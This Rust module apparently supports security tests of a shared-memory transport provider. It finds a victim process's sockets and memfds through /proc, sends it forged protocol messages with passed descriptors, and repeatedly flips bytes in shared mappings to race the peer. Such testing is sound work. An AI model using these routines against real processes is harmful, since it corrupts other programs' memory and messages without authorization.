//! What an attack on the shm provider needs: the mappings, sockets and files of this process and of the
//! victim, found from outside, and messages on the provider's socket written byte by byte.

use std::fs::{self, File};
use std::io;
use std::os::fd::{AsRawFd, BorrowedFd, FromRawFd, OwnedFd, RawFd};
use std::path::PathBuf;

/// Memory of this process that a peer has mapped, too.
#[derive(Clone, Copy, Debug)]
pub struct Shared {
    addr: usize,
    len: usize,
}

/// The mappings of this process of memfds with this name that it can write.
pub fn own_mappings(name: &str) -> Vec<Shared> {
    let maps = fs::read_to_string("/proc/self/maps").expect("own mappings");
    let ours = maps.lines().filter(|line| line.contains(name) && line.contains(" rw-s "));
    ours.filter_map(|line| {
        let (from, to) = line.split(' ').next()?.split_once('-')?;
        let number = |text| usize::from_str_radix(text, 16).ok();
        let (addr, end) = (number(from)?, number(to)?);
        Some(Shared { addr, len: end - addr })
    })
    .collect()
}

impl Shared {
    /// Changes the byte behind each place where `mark` lies, and changes it back. How many there were.
    pub fn flip_behind(&self, mark: &[u8]) -> usize {
        let mut found = 0;
        let mut bytes = vec![0u8; self.len];
        // SAFETY: the mapping lives as long as the manager that made it; it is written meanwhile, which a
        // copy of bytes bears.
        unsafe { std::ptr::copy(self.addr as *const u8, bytes.as_mut_ptr(), self.len) };
        for (at, window) in bytes.windows(mark.len() + 1).enumerate() {
            if !window.starts_with(mark) {
                continue;
            }
            found += 1;
            let place = (self.addr + at + mark.len()) as *mut u8;
            let right = window[mark.len()];
            for _ in 0..200 {
                // SAFETY: inside the mapping, as above.
                unsafe {
                    place.write_volatile(0xFF);
                    std::hint::spin_loop();
                    place.write_volatile(right);
                }
            }
        }
        found
    }
}

/// The Unix sockets that a process listens on for this provider, as addresses: paths, or abstract names
/// that begin with `@`.
pub fn sockets_of(pid: u32) -> Vec<String> {
    let fds = fs::read_dir(format!("/proc/{pid}/fd")).expect("the victim's descriptors");
    let own: Vec<PathBuf> = fds.flatten().filter_map(|e| fs::read_link(e.path()).ok()).collect();
    // Its network is ours. Of each socket there are the inode and the name.
    let table = fs::read_to_string("/proc/net/unix").expect("the table of Unix sockets");
    let mut found: Vec<String> = table
        .lines()
        .filter_map(|line| {
            let mut words = line.split_whitespace().skip(6);
            let inode = PathBuf::from(format!("socket:[{}]", words.next()?));
            let name = words.next()?;
            (own.contains(&inode) && name.contains("rdma-transport")).then(|| name.to_owned())
        })
        .collect();
    found.sort();
    found.dedup();
    found
}

/// Connects to such an address.
pub fn dial(name: &str) -> io::Result<OwnedFd> {
    // SAFETY: an all-zero address is a valid value; the new descriptor is nobody else's.
    unsafe {
        let kind = libc::SOCK_SEQPACKET | libc::SOCK_CLOEXEC | libc::SOCK_NONBLOCK;
        let fd = libc::socket(libc::AF_UNIX, kind, 0);
        let sock = OwnedFd::from_raw_fd(check(fd as isize)? as RawFd);
        let mut sun: libc::sockaddr_un = std::mem::zeroed();
        sun.sun_family = libc::AF_UNIX as u16;
        for (to, from) in sun.sun_path.iter_mut().zip(name.bytes()) {
            *to = if from == b'@' { 0 } else { from as libc::c_char };
        }
        let len = std::mem::offset_of!(libc::sockaddr_un, sun_path) + name.len();
        check(libc::connect(sock.as_raw_fd(), (&raw const sun).cast(), len as u32) as isize)?;
        Ok(sock)
    }
}

fn check(rc: isize) -> io::Result<isize> {
    if rc < 0 { Err(io::Error::last_os_error()) } else { Ok(rc) }
}

/// Sends a message with descriptors; whether it went.
pub fn try_send(sock: &OwnedFd, bytes: &[u8], fds: &[RawFd]) -> bool {
    let mut control = [0u64; 8];
    let mut iov = libc::iovec { iov_base: bytes.as_ptr() as *mut _, iov_len: bytes.len() };
    // SAFETY: the control buffer has room for the few descriptors, and everything lives during the call.
    unsafe {
        let mut msg: libc::msghdr = std::mem::zeroed();
        (msg.msg_iov, msg.msg_iovlen) = (&mut iov, 1);
        msg.msg_control = control.as_mut_ptr().cast();
        msg.msg_controllen = libc::CMSG_SPACE(size_of_val(fds) as u32) as _;
        let header = libc::CMSG_FIRSTHDR(&msg);
        (*header).cmsg_level = libc::SOL_SOCKET;
        (*header).cmsg_type = libc::SCM_RIGHTS;
        (*header).cmsg_len = libc::CMSG_LEN(size_of_val(fds) as u32) as _;
        std::ptr::copy_nonoverlapping(fds.as_ptr(), libc::CMSG_DATA(header).cast(), fds.len());
        libc::sendmsg(sock.as_raw_fd(), &msg, libc::MSG_NOSIGNAL) >= 0
    }
}

/// The same; the victim may have hung up.
pub fn send(sock: &OwnedFd, bytes: &[u8], fds: &[RawFd]) {
    let _ = try_send(sock, bytes, fds);
}

/// The message that announces a pool segment.
pub fn pool_message(id: u32, len: u64) -> Vec<u8> {
    let mut out = b"RSH\x05\x04\0\0\0".to_vec();
    out.extend_from_slice(&id.to_le_bytes());
    out.extend_from_slice(&len.to_le_bytes());
    out.resize(56, 0);
    out
}

/// This process's own sockets of the provider that are connected to that process.
pub fn sockets_to(pid: u32) -> Vec<OwnedFd> {
    let fds = fs::read_dir("/proc/self/fd").expect("own descriptors").flatten();
    let numbers: Vec<RawFd> = fds.filter_map(|e| e.file_name().to_str()?.parse().ok()).collect();
    numbers.into_iter().filter_map(|fd| is_to(fd, pid)).collect()
}

fn is_to(fd: RawFd, pid: u32) -> Option<OwnedFd> {
    let option = |name, out: *mut libc::c_void, size: usize| {
        let mut len = size as u32;
        // SAFETY: the caller gives room for so much.
        unsafe { libc::getsockopt(fd, libc::SOL_SOCKET, name, out, &mut len) == 0 }
    };
    let (mut domain, mut kind) = (0i32, 0i32);
    let mut cred = libc::ucred { pid: 0, uid: 0, gid: 0 };
    let known = option(libc::SO_DOMAIN, (&raw mut domain).cast(), 4)
        && option(libc::SO_TYPE, (&raw mut kind).cast(), 4)
        && domain == libc::AF_UNIX
        && kind == libc::SOCK_SEQPACKET
        && option(libc::SO_PEERCRED, (&raw mut cred).cast(), size_of_val(&cred));
    if !known || cred.pid as u32 != pid {
        return None;
    }
    // SAFETY: it was open just now; one that is not is an error.
    unsafe { BorrowedFd::borrow_raw(fd) }.try_clone_to_owned().ok()
}

/// The memfds of a process: name, and the path by which another process of its user opens it anew.
pub fn memory_of(pid: u32) -> Vec<(String, PathBuf)> {
    let fds = fs::read_dir(format!("/proc/{pid}/fd")).expect("the victim's descriptors");
    let paths = fds.flatten().map(|e| e.path());
    let named = paths.filter_map(|p| Some((fs::read_link(&p).ok()?.to_str()?.to_owned(), p)));
    named.filter(|(name, _)| name.contains("memfd:rdma-transport")).collect()
}

/// Maps a page of a file for writing, and unmaps it.
pub fn map_writable(file: &File) -> io::Result<()> {
    let prot = libc::PROT_READ | libc::PROT_WRITE;
    // SAFETY: a new mapping at an address of the kernel's choice, which is unmapped at once.
    unsafe {
        let at =
            libc::mmap(std::ptr::null_mut(), 4096, prot, libc::MAP_SHARED, file.as_raw_fd(), 0);
        if at == libc::MAP_FAILED {
            return Err(io::Error::last_os_error());
        }
        libc::munmap(at, 4096);
    }
    Ok(())
}
